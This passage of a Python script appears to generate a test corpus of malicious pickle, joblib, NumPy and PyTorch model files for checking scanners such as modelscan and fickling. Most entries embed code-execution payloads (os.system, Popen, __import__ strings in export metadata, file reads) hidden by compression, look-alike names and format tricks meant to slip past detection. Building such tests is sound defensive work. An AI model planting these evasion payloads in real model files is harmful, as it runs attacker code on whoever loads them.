    "fullwidth-module": named("ｏs", "system") + arguments([TOUCH]) + b"R",
    "long-s-module": named("ſklearn.base", "BaseEstimator") + b")\x81",
    "empty-module": named("", "system") + arguments([TOUCH]) + b"R",
    "main-module": named("__main__", "exec") + arguments([PYTHON]) + b"R",
    "user-like-module": named("sklearn_extra.base", "Model") + b")\x81",
    "look-alike-package": named("sklearnn.svm", "SVC") + b")\x81",
    "sub-module-nobody-has": named("sklearn.svm.backdoor", "SVC") + b")\x81",
    "class-nobody-has": named("sklearn.svm._classes", "SVCx") + b")\x81",
    "constant": named("sklearn.utils._joblib", "Parallel") + b")R",
    # modelscan issue 85: attributes that a state puts on a function, found again by dotted names.
    "attribute-of-a-function": b"cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93" + arguments([TOUCH]) + b"R",
    # modelscan issue 331: names joined from letters.
    "joined-name": call("importlib", "import_module", get(get(call("importlib", "import_module", "builtins"), "str"), "join") + arguments(["", b"](" + text("o") + text("s") + b"e"]) + b"R"),
    # fickling pull request 302: interpreters within, called by a state.
    "interpreter-state": call("builtins", "object") + call("_interpreters", "create") + b"b",
    "rebuild-from-object": call("torch._tensor", "_rebuild_from_type_v2", call("builtins", "object"), named("torch", "Tensor"), b")", b"N"),
    "rebuild-from-permitted": call("torch._tensor", "_rebuild_from_type_v2", named("numpy", "log1p"), named("torch", "Tensor"), b")", b"N"),
    "rebuild-from-class": call("torch._tensor", "_rebuild_from_type_v2", named("sklearn.svm._classes", "SVC"), named("torch", "Tensor"), b")", b"N"),
    "rebuild-from-reduce": call("torch._tensor", "_rebuild_from_type_v2", named("numpy.core.multiarray", "_reconstruct"), named("torch", "Tensor"),
                                arguments([memmap, arguments([canary])]), b"N"),
    "zone-path": call("zoneinfo", "ZoneInfo.from_file", b"N"),
    "timezone-file": call("dateutil.tz.tz", "tzfile", canary),
}
for name, content in USES.items():
    put("uses/%s.pkl" % name, whole(content), "permitted names put to other uses")

# 6. Compressed pickles, joblib's arrays


def lz4(data):
    """A frame with one stored block (LZ4 frame format 1.6), its header's checksum by xxHash32."""
    header = b"\x60\x70"
    return (b"\x04\x22\x4d\x18" + header + bytes([xxh32(header) >> 8 & 0xFF])
            + struct.pack("<I", len(data) | 0x80000000) + data + b"\0\0\0\0")


def xxh32(data):
    mask, h = 0xFFFFFFFF, (374761393 + len(data)) & 0xFFFFFFFF
    for byte in data:  # fewer than four
        h = (h + byte * 374761393) & mask
        h = ((h << 11 | h >> 21) & mask) * 2654435761 & mask
    h = (h ^ h >> 15) * 2246822519 & mask
    h = (h ^ h >> 13) * 3266489917 & mask
    return h ^ h >> 16


COMPRESSED = {
    "zlib": zlib.compress, "gzip": lambda d: gzip.compress(d, mtime=0), "bz2": bz2.compress,
    "xz": lambda d: lzma.compress(d, lzma.FORMAT_XZ), "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE), "lz4": lz4,
    "zlib-0": lambda d: zlib.compress(d, 0), "gzip-two-members": lambda d: gzip.compress(d[:9], mtime=0) + gzip.compress(d[9:], mtime=0),
    "xz-two-streams": lambda d: lzma.compress(d[:9]) + lzma.compress(d[9:]),
    "bz2-two-streams": lambda d: bz2.compress(d[:9]) + bz2.compress(d[9:]),
    "gzip-named": lambda d: b"\x1f\x8b\x08\x08\0\0\0\0\0\xffmodel.json\0" + gzip.compress(d, mtime=0)[10:],
    "zlib-truncated": lambda d: zlib.compress(d)[:-3], "gzip-wrong-crc": lambda d: gzip.compress(d, mtime=0)[:-8] + b"\0" * 8,
    "gzip-in-gzip": lambda d: gzip.compress(gzip.compress(d, mtime=0), mtime=0),
}
for name, compress in COMPRESSED.items():
    for protocol, content in [(0, OPCODES["protocol-0-global"]), (2, OPCODES["protocol-2-global"]), (4, system())]:
        put("compressed/%s-%d.joblib" % (name, protocol), compress(content), "compressors")


def wrapper(state, cls="joblib.numpy_pickle"):
    """joblib's array wrapper with a state, made as it is made."""
    return named(cls, "NumpyArrayWrapper") + b")\x81}(" + state + b"ub"


DTYPE = lambda code, state: (call("numpy", "dtype", code, b"\x89", b"\x88") + b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff"
                             + state + b"tb")
ARRAY = (text("subclass") + named("numpy", "ndarray") + text("shape") + b"K\x01\x85" + text("order") + text("C") + text("dtype"))
OBJECTS = ARRAY + DTYPE("O8", b"K\x3f") + text("allow_mmap") + b"\x89"
BYTES = ARRAY + DTYPE("u1", b"K\x00") + text("allow_mmap") + b"\x88"
put("joblib/object-array.joblib", b"\x80\x04" + wrapper(OBJECTS) + system() + b".", "joblib's arrays")
put("joblib/object-array-second.joblib", b"\x80\x04" + wrapper(OBJECTS) + benign + b"0" + wrapper(OBJECTS) + system() + b".", "joblib's arrays")
put("joblib/object-array-zlib.joblib", zlib.compress(b"\x80\x04" + wrapper(OBJECTS) + system() + b"."), "joblib's arrays")
put("joblib/behind-bytes.joblib", b"\x80\x04" + wrapper(BYTES) + b"." + call("os", "system", TOUCH) + b".", "joblib's arrays")
put("joblib/subclass.joblib", b"\x80\x04" + wrapper(BYTES.replace(named("numpy", "ndarray"), named("subprocess", "Popen"))) + b"\x00.", "joblib's arrays")
put("joblib/own-read.joblib", b"\x80\x04" + wrapper(BYTES + text("read") + named("builtins", "Exception")) + system(), "joblib's arrays")
# Instructions where other loaders see an array's bytes: plain pickle, and joblib before 1.2, which knows no padding.
INSTRUCTIONS = ARRAY.replace(b"K\x01\x85", b"K" + bytes([len(system()) - 2]) + b"\x85") + DTYPE("u1", b"K\x00") + text("allow_mmap") + b"\x88"
for ending in ("pkl", "joblib", "bin"):
    put("joblib/plain-pickle.%s" % ending, b"\x80\x04" + wrapper(INSTRUCTIONS) + system()[2:] + b".", "joblib's arrays")
put("joblib/plain-pickle-gzip.pkl.gz", gzip.compress(b"\x80\x04" + wrapper(INSTRUCTIONS) + system()[2:] + b".", mtime=0), "joblib's arrays")
# What Python reads on from though it makes little sense: states of nothing, other spellings of numbers, a text by NumPy.
BEFORE = {
    "state-of-none": b"K\x05Nb0", "empty-state": b"]}b0", "memo-sign": b"Np+7\n0", "memo-underscore": b"Np1_0\n0",
    "memo-zeros": b"Np" + b"0" * 30 + b"7\n0", "ignored-state": named("sklearn.utils._bunch", "Bunch") + b")\x81" + call("numpy", "ndarray", b"K\x01\x85") + b"b0",
    "scalar-of-text": call("numpy.core.multiarray", "scalar", call("numpy", "dtype", "O8"), "os") + text("getpid") + b"\x93)R0",
    "many-values": b"N" * 4300000, "long-name": text("os" + ".path.os" * 70) + text("getpid") + b"\x93)R0",
}
for name, before in BEFORE.items():
    hidden = before + system()[2:]
    shape = b"J" + struct.pack("<I", len(hidden)) + b"\x85"
    put("joblib/plain-pickle-%s.joblib" % name, zlib.compress(b"\x80\x04" + wrapper(INSTRUCTIONS.replace(
        b"K" + bytes([len(system()) - 2]) + b"\x85", shape)) + hidden + b".", 9), "joblib's arrays")
UNPADDED = ARRAY.replace(b"K\x01\x85", b"K\x0e\x85") + DTYPE("u1", b"K\x00") + text("allow_mmap") + b"\x88" + text("numpy_array_alignment_bytes") + b"K\x10"
put("joblib/before-padding.joblib", b"\x80\x04" + wrapper(UNPADDED) + b"\x0d" + b"\xff" * 13 + b"cos\ngetpid\n)R0" + b"N.", "joblib's arrays")
put("joblib/companion.joblib", b"\x80\x04" + named("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}(" + text("filename")
    + text("other.npy") + text("subclass") + named("numpy", "ndarray") + text("allow_mmap") + b"\x89ub.", "joblib's arrays")
put("joblib/vendored.joblib", b"\x80\x04" + wrapper(OBJECTS, "sklearn.externals.joblib.numpy_pickle") + system() + b".", "joblib's arrays")
put("joblib/shape-lies.joblib", b"\x80\x04" + wrapper(BYTES.replace(b"K\x01\x85", b"J\xff\xff\xff\x7f\x85")) + b"." + system(), "joblib's arrays")
put("joblib/old-zfile.joblib", b"ZF0x" + b"%17x" % len(inner) + zlib.compress(inner), "joblib's arrays")

# Objects where permitted functions expect classes, and attributes in the place of methods that a load calls.

made = lambda module, name: named(module, name) + b")\x81"
built = lambda thing, **attributes: thing + b"}(" + b"".join(text(key) + value(item) for key, item in attributes.items()) + b"ub"
UFUNC = named("numpy.core", "_ufunc_reconstruct")
INTERVALS = "pandas.core.indexes.interval", "_new_IntervalIndex"
BASE = "sklearn.base", "TransformerMixin"
keywords = lambda **items: b"}(" + b"".join(text(key) + value(item) for key, item in items.items()) + b"u"
posing = call(*INTERVALS, built(call("builtins", "Exception"), from_arrays=UFUNC), keywords(module="os", name="system"))
interpolating = built(made("scipy.interpolate._interpolate", "interp1d"), _prepare_x=named("builtins", "tuple"),
                      _evaluate=named("builtins", "str"), _finish_y=UFUNC)
ordered = built(made("collections", "OrderedDict"), __new__=interpolating) + b"(" + text("os") + b"N" + text("system") + b"Nu"
found = call("sklearn.neighbors._kd_tree", "newObj", ordered)
WRAPPER = named("joblib.numpy_pickle", "NumpyArrayWrapper")
HIDDEN = BYTES.replace(b"K\x01\x85", b"K\x05\x85")
hidden = lambda thing: thing + b"}(" + HIDDEN + b"ub" + b"B" + struct.pack("<I", len(system()[2:-1]) + 2) + system()[2:-1] + b"0N."
POSING = {
    "interval-index.pkl": whole(call(*INTERVALS, built(call("builtins", "Exception"), from_arrays=posing), keywords(command=TOUCH))),
    "new-object.pkl": whole(call("numpy.random._pickle", "__randomstate_ctor", TOUCH, found)),
    "new-object-only.pkl": whole(found),
    "reads-a-file.pkl": whole(call(*INTERVALS, built(call("builtins", "Exception"), from_arrays=named("lightgbm.basic", "Booster")),
                                   keywords(model_file="/etc/hostname"))),
    "append.pkl": whole(built(made(*BASE), append=named("numpy", "zeros")) + b"K\x02a"),
    "extend.pkl": whole(built(made(*BASE), extend=named("numpy", "zeros")) + b"(K\x02e"),
    "add.pkl": whole(built(made(*BASE), add=named("xgboost.collective", "communicator_print")) + b"(" + text("called") + b"\x90"),
    "setstate.pkl": whole(built(made(*BASE), __setstate__=named("xgboost.collective", "communicator_print")) + text("called") + b"b"),
    "escaped-key.pkl": whole(made(*BASE) + b"}V__set\\u0073tate__\n" + named("numpy", "zeros") + b"sbK\x02b"),
    "computed-key.pkl": whole(made(*BASE) + b"}" + call("builtins", "str", "__setstate__") + named("numpy", "zeros") + b"sbK\x02b"),
    "computed-state.pkl": whole(made(*BASE) + call("collections", "Counter", b"}" + text("__class__") + named(*BASE) + b"s") + b"b"),
    "function-state.pkl": whole(built(made("sklearn.preprocessing._function_transformer", "FunctionTransformer"), func=UFUNC)),
    "function-in-a-tuple.pkl": whole(b"](" + UFUNC + b"\x85\x85e"),
    "only-keywords.pkl": whole(named("lightgbm.basic", "Booster") + b")" + keywords(model_file="/etc/hostname") + b"\x92"),
    "vectorizer-reads.pkl": whole(built(made("sklearn.feature_extraction.text", "CountVectorizer"), input="filename", analyzer="word")),
    "vectorizer-reads-ordered.pkl": whole(made("sklearn.feature_extraction.text", "CountVectorizer") + call("collections", "OrderedDict")
                                          + b"(" + text("input") + text("filename") + b"ub"),
    "vectorizer-reads-made.pkl": whole(made("sklearn.feature_extraction.text", "CountVectorizer") + call(
        "collections", "OrderedDict", b"](" + text("input") + text("filename") + b"ta") + b"b"),
    "vectorizer-by-identity.pkl": whole(built(call("torch.jit._pickle", "build_intlist", made(
        "sklearn.feature_extraction.text", "CountVectorizer")), input="filename")),
    "state-by-identity.pkl": whole(made(*BASE) + b"}q\x07" + call("torch.jit._pickle", "build_intlist", b"h\x07") + text("__setstate__")
                                   + named("numpy", "zeros") + b"s0bK\x02b"),
    "methods-by-identity.pkl": whole(built(made("sklearn.ensemble._stacking", "StackingClassifier"), stack_method_=b"]q\x07")
                                     + call("torch.jit._pickle", "build_tensorlist", b"h\x07") + text("to_pickle") + b"a0"),
    "dtype-by-identity.pkl": whole(call("torch.jit._pickle", "restore_type_tag", call("numpy", "dtype", "O8", b"\x89", b"\x88"), "x")
                                   + arguments([3, "|", None, None, None, -1, -1, 0]) + b"b"),
    "slots-behind-false.pkl": whole(made("argparse", "Namespace") + b"\x89" + keywords(shape=1) + b"\x86b"),
    "array-of-memory.pkl": whole(call("numpy", "ndarray", b"K\x01\x85", "O8", raw(b"AAAAAAAA"))),
    "array-as-state.pkl": whole(made("torch.nn.modules.module", "Module") + call("numpy", "ndarray", b"K\x00K\x02\x86", "O8") + b"b"),
    "held-array-class.pkl": whole(built(made("sklearn.preprocessing._function_transformer", "FunctionTransformer"), func=named("numpy", "ndarray"),
                                        kw_args=keywords(dtype="O", buffer=raw(b"AAAAAAAA")))),
    "state-by-base.pkl": whole(made("argparse", "Namespace") + call("copyreg", "_reconstructor", named("collections", "OrderedDict"),
                                                                    named("builtins", "dict"), keywords(__setstate__=named("numpy", "zeros"))) + b"bK\x02b"),
    "held-copyreg.pkl": whole(built(made("sklearn.preprocessing._function_transformer", "FunctionTransformer"), func=named("copyreg", "__newobj_ex__"))),
    "held-booster.pkl": whole(built(made("sklearn.preprocessing._function_transformer", "FunctionTransformer"), func=named("lightgbm.basic", "Booster"),
                                    kw_args=keywords(model_file="/etc/hostname"))),
    "wrapper-by-new-index.joblib": b"\x80\x04" + hidden(call("pandas.core.indexes.base", "_new_Index", WRAPPER, b"}")),
    "wrapper-by-new-object.joblib": b"\x80\x04" + hidden(call("sklearn.neighbors._kd_tree", "newObj", WRAPPER)),
    "wrapper-by-class.joblib": b"\x80\x04" + made(*BASE) + b"}(" + HIDDEN + b"u}" + text("__class__") + WRAPPER + b"s\x86b"
    + hidden(b"")[len(b"}(" + HIDDEN + b"ub"):],
    "wrapper-by-identity.joblib": b"\x80\x04" + hidden(call("torch.jit._pickle", "restore_type_tag", made("joblib.numpy_pickle", "NumpyArrayWrapper"), "x")),
}
# A structure that denies the objects among its fields: NumPy would take an array's bytes for their addresses.
POINTERS = call("numpy", "dtype", "V8", b"\x89", b"\x88") + arguments([3, "|", None, b"]", b"}"])[:-3] + text("a") + b"\x85}" + text("a") + call(
    "numpy", "dtype", "O8", b"\x89", b"\x88") + arguments([3, "|", None, None, None, -1, -1, 63]) + b"bK\x00\x86sK\x08K\x01K\x00tb"
POSING["objects-denied.pkl"] = whole(call("numpy.core.multiarray", "_reconstruct", named("numpy", "ndarray"), b"K\x00\x85", raw(b"b"))
                                     + b"(K\x01K\x01\x85" + POINTERS + b"\x89" + raw(b"AAAAAAAA") + b"tb")
for name, content in POSING.items():
    put("posing/" + name, content, "objects in the place of classes and methods")

# 7. NumPy's own files


def npy(pickled, shape="(1,)", descr="'|O'", version=1):
    header = ("{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)).encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(header)) + header + pickled


def archive(members, compression=zipfile.ZIP_STORED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as out:
        for name, data in members:
            out.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, compression)
    return file.getvalue()


put("numpy/object.npy", npy(system()), "npy and npz")
put("numpy/object-v2.npy", npy(system(), version=2), "npy and npz")
put("numpy/structured.npy", npy(system(), descr="[('a', '<f8'), ('b', '|O')]"), "npy and npz")
put("numpy/object.npz", archive([("a.npy", npy(b"\0" * 8, descr="'<f8'")), ("b.npy", npy(system()))]), "npy and npz")
put("numpy/object-deflated.npz", archive([("arr_0.npy", npy(system()))], zipfile.ZIP_DEFLATED), "npy and npz")
put("numpy/joblib-wrapper.npy", npy(b"\x80\x04" + wrapper(INSTRUCTIONS) + system()[2:] + b"."), "npy and npz")
put("numpy/plain-pickle.npy", system(), "npy and npz")
put("numpy/header-code.npy", npy(b"", descr="__import__('os').system(%r)" % TOUCH), "npy and npz")

# 8. PyTorch's files

CHECKPOINT = b"}" + text("w") + b"K\x01s"
evil = whole(b"}" + text("w") + call("os", "system", TOUCH) + b"s", protocol=2)
MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
INFO = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
fine = whole(CHECKPOINT, protocol=2)
version = ("a/version", b"3\n")
torch_evil = archive([("a/data.pkl", evil), version])
put("torch/zip.pt", torch_evil, "torch")
put("torch/zip.bin", archive([("a/data.pkl", evil), ("a/byteorder", b"little"), version]), "torch")
put("torch/zip-deflated.pth", archive([("a/data.pkl", evil), version], zipfile.ZIP_DEFLATED), "torch")
put("torch/without-version.pt", archive([("a/data.pkl", evil)]), "torch")
put("torch/twice.pt", archive([("a/data.pkl", fine), version, ("a/data.pkl", evil)]), "torch")
put("torch/twice-case.pt", archive([("a/data.pkl", fine), version, ("a/DATA.PKL", evil)]), "torch")
put("torch/upper-case.pt", archive([("a/DATA.pkl", evil), version]), "torch")
put("torch/another-pickle.pt", archive([("a/data.pkl", fine), version, ("a/attributes.pkl", evil)]), "torch")
put("torch/other-folder.pt", archive([("a/version", b"3\n"), ("b/data.pkl", evil)]), "torch")
put("torch/in-a-storage.pt", archive([("a/data.pkl", whole(call("torch.storage", "_load_from_bytes", raw(inner)), protocol=2)), version]), "torch")
put("torch/constants.pt", archive([("a/data.pkl", evil), ("a/constants.pkl", evil), version, ("a/code/__torch__.py", b"")]), "torch")
put("torch/model-json.pt", archive([("a/model.json", b"{}"), ("a/data.pkl", evil), ("a/attributes.pkl", evil), version]), "torch")
put("torch/package.pt", archive([("a/.data/version", b"1"), ("a/model/model.pkl", evil), ("a/.data/extern_modules", b"os\n")]), "torch")
put("torch/legacy.pt", MAGIC + INFO + evil + pickle.dumps([], 2), "torch")
put("torch/legacy-in-info.pt", MAGIC + evil + fine + pickle.dumps([], 2), "torch")
put("torch/legacy-in-keys.pt", MAGIC + INFO + fine + evil, "torch")
put("torch/legacy-magic-only.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + evil, "torch")
put("torch/legacy-changed-magic.pt", whole(call("os", "system", TOUCH) + b"0" + MAGIC[2:14], protocol=2) + MAGIC[15:] + INFO + fine, "torch")
by_id = lambda inner: b"(" + text("module") + inner + text("") + text("") + b"t"
patch = by_id(by_id(named("torch._utils", "_rebuild_tensor_v2"))) + b"QQN}(" + text("dump_patches") + b"\x88" + text("__name__") + text(canary) + b"u\x86b0"
put("torch/legacy-id-in-id.pt", MAGIC + INFO + whole(patch + b"(" + text("module") + named("torch._utils", "_rebuild_tensor_v2") + text("x\n") + text("line")
    + b"tQ0" + named("torch.nn.modules.linear", "Linear") + b")\x81", protocol=2) + pickle.dumps([], 2), "torch", "writes CANARY.patch")
put("torch/state-in-model.pt", archive([("a/data.pkl", whole(named("torch.nn.modules.linear", "Linear") + b")\x81}" + text("forward")
    + named("os", "system") + b"sb", protocol=2)), version]), "torch")
put("torch/not-a-module.pt", archive([("a/data.pkl", whole(named("torch.nn.modules.linear", "Linear.forward") + b")R", protocol=2)), version]), "torch")
put("torch/script-saves.pt", archive([
    ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", pickle.dumps((), 2)), version,
    ("a/code/__torch__.py", b"class Net(Module):\n  def forward(self, x):\n    torch.save(x, \"" + canary.encode() + b"\")\n    return x\n")]),
    "TorchScript")
put("torch/script-reads.pt", archive([
    ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", pickle.dumps((), 2)), version,
    ("a/code/__torch__.py", b"class Net(Module):\n  def forward(self, x):\n    return torch.from_file(\"/etc/hostname\")\n")]),
    "TorchScript")
for name, code in {
    "spaced": "torch . save (x, %r)", "alias": "t = torch\n    t.save(x, %r)", "function": "s = torch.save\n    s(x, %r)",
    "comment": "(torch.  # \n    save)(x, %r)", "text": "f(\"#\", torch.save(x, %r))", "operator": "ops.aten.save(x, %r)",
    "image": "ops.image.write_file(%r, x)", "continued": "torch.\\\n    save(x, %r)",
    "attribute": "getattr(torch, \"save\")(x, %r)", "attribute-escaped": "getattr(torch, \"\\163ave\")(x, %r)",
    "attribute-in-parts": "getattr(torch, \"sa\" 've')(x, %r)", "attribute-alias": "g = getattr\n    g(torch, 'save')(x, %r)",
    "attribute-of-operators": "getattr(ops.aten, 'save')(x, %r)",
}.items():
    source = "class Net(Module):\n  def forward(self, x):\n    " + code % canary + "\n    return x\n"
    put("torch/script-saves-%s.pt" % name, archive([
        ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", pickle.dumps((), 2)), version,
        ("a/code/__torch__.py", source.encode())]), "TorchScript")
for name, member in {"file": "a/code/__torch__.PY", "folder": "a/CODE/__torch__.py"}.items():
    put("torch/script-upper-case-%s.pt" % name, archive([
        ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", pickle.dumps((), 2)), version,
        (member, b"class Net(Module):\n  def forward(self, x):\n    torch.save(x, \"" + canary.encode() + b"\")\n    return x\n")]), "TorchScript")
put("torch/script-constants.pt", archive([
    ("a/data.pkl", whole(named("__torch__", "Net") + b")\x81", protocol=2)), ("a/constants.pkl", evil), version,
    ("a/code/__torch__.py", b"class Net(Module):\n  pass\n")]), "TorchScript")
put("torch/script-data.pt", archive([
    ("a/data.pkl", evil), ("a/constants.pkl", pickle.dumps((), 2)), version, ("a/code/__torch__.py", b"")]), "TorchScript")

# Exported programs: torch.export.load evaluates sizes, looks up operators by name, reads pickles and native code.


LEAF = {"type": None, "context": "null", "children_spec": []}


def exported(expression="Symbol('s0', positive=True, integer=True)", target="torch.ops.aten.relu.default", structure="", ranges="s0", more=(), model="model",
             name="x", keyword="", values="x", attribute="", guard="L['x'].size()[0] <= 9", format="a/archive_format", given_as=None, **argument):
    size = {"as_expr": {"expr_str": expression, "hint": {"as_int": 3}}}
    tensor = {"dtype": 7, "sizes": [size, {"as_int": 2}], "requires_grad": False, "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 2}, {"as_int": 1}],
              "storage_offset": {"as_int": 0}, "layout": 7}
    named = {"as_tensor": {"name": name}}
    graph = {"inputs": [named] + ([given_as] if given_as else []), "outputs": [{"as_tensor": {"name": "y"}}], "tensor_values": {values: tensor, name: tensor, "y": tensor}, "sym_int_values": {}, "sym_bool_values": {},
             "nodes": [{"target": target, "inputs": [{"name": "self", "arg": argument or named, "kind": 1}], "outputs": [{"as_tensor": {"name": "y"}}], "metadata": {}}]}
    given = {"buffer": {"arg": {"name": name}, "buffer_name": attribute, "persistent": True}} if attribute else {"user_input": {"arg": named}}
    structure = structure or json.dumps([1, dict(LEAF, type="builtins.tuple", children_spec=[dict(LEAF, type="builtins.tuple", children_spec=[] if keyword else [LEAF]),
        dict(LEAF, type="builtins.dict", context=json.dumps([keyword] if keyword else []), children_spec=[LEAF] if keyword else [])])])
    signature = {"input_specs": [given], "output_specs": [{"user_output": {"arg": {"as_tensor": {"name": "y"}}}}]}
    calls = [{"fqn": "", "signature": {"inputs": [], "outputs": [], "in_spec": structure, "out_spec": structure, "forward_arg_names": [] if keyword else [name]}}]
    program = {"graph_module": {"graph": graph, "signature": signature, "module_call_graph": calls}, "opset_version": {"aten": 10},
               "range_constraints": {ranges: {"min_val": 2, "max_val": 9}}, "schema_version": {"major": 8, "minor": 14}, "torch_version": "2.13.0", "guards_code": [guard]}
    if model == "old":
        return archive([("serialized_exported_program.json", json.dumps(program).encode()), ("version", b"8.5"), *more])
    return archive([("a/models/%s.json" % model, json.dumps(program).encode()), (format, b"pt2"), ("a/archive_version", b"0"), *more])


def pickled(name, content, folder="constants", **entry):
    config = {"config": {"c": dict({"path_name": name, "is_param": False, "use_pickle": True, "tensor_meta": None}, **entry)}}
    return [("a/data/%s/model_%s_config.json" % (folder, folder), json.dumps(config).encode()), ("a/data/%s/%s" % (folder, name), content)]


tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w") as out:
    for name, data in [("sys_info", pickle.dumps({"protocol_version": 1000}, 2)), ("pickle", evil), ("storages", evil), ("tensors", evil)]:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        out.addfile(info, io.BytesIO(data))
CALL = "__import__('os').system(%r)" % TOUCH
spec = lambda context, kind="collections.defaultdict": json.dumps([1, {"type": kind, "context": json.dumps(context), "children_spec": []}])
QUOTED = "\" + str(%s) + \"" % CALL
keyed = lambda key: json.dumps([1, dict(LEAF, type="builtins.tuple", children_spec=[
    dict(LEAF, type="builtins.tuple", children_spec=[dict(LEAF, type="builtins.dict", context=json.dumps([key]), children_spec=[LEAF])]),
    dict(LEAF, type="builtins.dict", context="[]")])])
EXPORTS = {
    "key-of-an-input": exported(structure=keyed(QUOTED)), "key-like-json": exported(structure=keyed("[\"x\", %s]" % CALL)),
    "text-of-an-input": exported(given_as={"as_string": "' or %s or '" % CALL}), "number-that-is-a-text": exported(given_as={"as_int": CALL}),
    "numbers-that-are-texts": exported(given_as={"as_floats": [1.5, CALL]}), "operator-of-sound": exported(target="torch.ops.torchaudio.sox_io_save_audio_file.default"),
    "key-of-example-inputs": exported(more=[("a/data/sample_inputs/model.pt", archive([("b/data.pkl", pickle.dumps({QUOTED: 1}, 2)), ("b/version", b"3")]))]),
    "bytes-of-example-inputs": exported(more=[("a/data/sample_inputs/model.pt", archive([("b/data.pkl", pickle.dumps({QUOTED.encode(): 1}, 4)), ("b/version", b"3")]))]),
    "old-key-of-example-inputs": exported(model="old", more=[("serialized_example_inputs.pt", archive([("b/data.pkl", pickle.dumps({QUOTED: 1}, 2)), ("b/version", b"3")]))]),
    "weight-behind-a-nul": exported(more=pickled("weight_0", torch_evil, "weights", path_name="weight_0\0x")),
    "size": exported(CALL), "size-behind-a-symbol": exported(CALL + " or Symbol('s0')"), "size-in-a-call": exported("Max(2, %s)" % CALL), "size-called": exported("(exec)('x')"),
    "size-by-attribute": exported("Symbol.__class__"), "size-lambda": exported("(lambda: %s)()" % CALL), "size-text": exported("Symbol('s0'[0:])"), "size-open": exported("open('x')"),
    "size-sympify": exported("sympify(\"x\")"), "size-result-called": exported("Symbol('s0')(2)"), "size-walrus": exported("[x for x in (1,)]"),
    "range": exported(ranges=CALL), "old-size": exported(CALL, model="old"), "second-model-size": exported(CALL, model="other"),
    "guard": exported(guard=CALL + " == 0"), "name-of-an-input": exported(name="x=" + CALL), "name-of-a-keyword": exported(keyword="x=" + CALL),
    "name-of-a-value": exported(values="x=" + CALL), "name-of-an-attribute": exported(attribute="x\", 0) or exec('%s') #" % CALL.replace(".", "\\x2e").replace("'", "\\x27")),
    "operator-of-os": exported(target="torch.os.system"), "operator-load": exported(target="torch.load"), "operator-hub": exported(target="torch.hub.load"),
    "operator-library": exported(target="torch.ops.load_library"), "operator-save": exported(target="torch.ops.aten.save.default"),
    "operator-from-file": exported(target="torch.ops.aten.from_file.default"), "operator-inside": exported(target="torch.ops.aten.__class__.__init__"),
    "operator-deep": exported(target="torch.ops.aten.relu.default._op.__call__"), "operator-caller": exported(target="_operator.methodcaller"),
    "operator-getter": exported(target="_operator.attrgetter"), "operator-of-mine": exported(target="torch.ops.mine.f.default"),
    "operator-script": exported(target="torch.ops.higher_order.call_torchbind"), "operator-compiled": exported(target="torch.ops.higher_order.aoti_call_delegate"),
    "operator-extension": exported(target="#mine:f"), "operator-as-argument": exported(as_operator="torch.os.system"),
    "structure-factory": exported(structure=spec({"default_factory_module": "os", "default_factory_name": "getpid", "dict_context": []})),
    "structure-module": exported(structure=spec({"default_factory_module": "antigravity", "default_factory_name": "x", "dict_context": []})),
    "structure-enum": exported(structure=spec([{"__enum__": True, "fqn": "antigravity:x", "name": "A"}], "builtins.dict")),
    "native-code": exported(more=[("a/data/aotinductor/model/model.so", b"\x7fELF")]), "native-code-upper-case": exported(more=[("a/Data/AOTInductor/model/model.so", b"\x7fELF")]),
    "constant": exported(more=pickled("tensor_0", torch_evil)), "constant-legacy": exported(more=pickled("tensor_0", MAGIC + INFO + evil + pickle.dumps([], 2))),
    "constant-plain": exported(more=pickled("tensor_0", evil)), "constant-opaque": exported(more=pickled("opaque_obj_0", system(), use_pickle=False)),
    "constant-custom": exported(more=pickled("custom_obj_0", torch_evil, use_pickle=False)), "constant-true": exported(more=pickled("tensor_0", torch_evil, use_pickle=1)),
    "constant-outside": exported(more=pickled("tensor_0", b"", path_name="../../extra/tensor_0")), "weight": exported(more=pickled("weight_0", torch_evil, "weights")),
    "inputs": exported(more=[("a/data/sample_inputs/model.pt", torch_evil)]), "inputs-upper-case": exported(more=[("a/data/sample_inputs/model.PT", torch_evil)]),
    "program-by-another-ending": exported(more=[("a/models/model.jsox", b"{}")]), "weights-beside": exported(more=[("a/data.pkl", evil)]),
    "old-weights-as-json": exported(model="old", more=[("serialized_state_dict.json", torch_evil), ("serialized_constants.json", torch_evil)]),
    "weights-in-upper-case": exported(more=[("a/DATA.PKL", evil)]), "in-upper-case-beside-weights": exported(CALL, more=[("a/data.pkl", fine), version], format="a/ARCHIVE_FORMAT"),
    "native-code-alone": archive([("a/archive_format", b"pt2"), ("a/data/aotinductor/model/model.so", b"\x7fELF")]),
    "inputs-tar": exported(more=[("a/data/sample_inputs/model.pt", tar.getvalue())]),
    "script-in-it": exported(more=pickled("tensor_0", archive([("b/data.pkl", fine), ("b/constants.pkl", pickle.dumps((), 2)), ("b/version", b"3"), ("b/code/__torch__.py", b"")]))),
}
code = b"csympy\nsin\n(V" + CALL.encode() + b"\ntR0"
elements = b"cnumpy\ndtype\n(" + text("u1") + b"\x89\x88tR(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
